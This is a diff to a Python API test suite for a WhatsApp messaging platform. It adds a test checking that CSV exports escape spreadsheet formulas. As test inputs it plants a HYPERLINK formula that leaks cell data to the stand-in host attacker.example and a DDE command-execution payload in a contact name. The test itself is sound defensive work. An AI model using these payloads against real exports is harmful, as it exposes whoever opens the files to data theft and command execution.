@@ -1,5 +1,7 @@
 import requests
 import sys
+import csv
+import io
 import json
 from datetime import datetime
 
@@ -214,6 +216,56 @@ class WhatsAppPlatformTester:
         
         return success
 
+    def test_exports(self):
+        """Test that exported text which a spreadsheet would run as a formula is quoted"""
+        formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+        success, conv_response = self.run_test(
+            "Create Conversation for Export",
+            "POST",
+            "conversations",
+            200,
+            params={
+                "contact_phone": "+1222333444",
+                "contact_name": "=cmd|' /C calc'!A0"
+            }
+        )
+        if not success or not conv_response.get('id'):
+            return False
+        conv_id = conv_response['id']
+        
+        success, _ = self.run_test(
+            "Send Formula Message",
+            "POST",
+            f"conversations/{conv_id}/messages",
+            200,
+            data={"conversation_id": conv_id, "content": formula, "use_ai": False}
+        )
+        if not success:
+            return False
+        
+        print("\n🔍 Testing Export Escapes Formulas...")
+        try:
+            response = requests.get(
+                f"{self.api_url}/conversations/export",
+                headers={'Authorization': f'Bearer {self.token}'},
+                params={"format": "csv", "conversation_id": conv_id},
+                timeout=30
+            )
+            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+            contents = [row["content"] for row in rows]
+            names = {row["contact_name"] for row in rows}
+            phones = {row["contact_phone"] for row in rows}
+            success = (
+                response.status_code == 200 and contents == ["'" + formula]
+                and names == {"'=cmd|' /C calc'!A0"} and phones == {"+1222333444"}
+            )
+            self.log_test("Export Escapes Formulas", success, f"status {response.status_code}, rows {rows}")
+        except Exception as e:
+            success = False
+            self.log_test("Export Escapes Formulas", False, f"Request error: {str(e)}")
+        
+        return success
+
     def test_campaigns(self):
         """Test campaign management"""
         # Get campaigns
@@ -404,6 +456,7 @@ class WhatsAppPlatformTester:
             self.test_conversations,
             self.test_chatbots,
             self.test_contacts,
+            self.test_exports,
             self.test_campaigns,
             self.test_templates,
             self.test_analytics,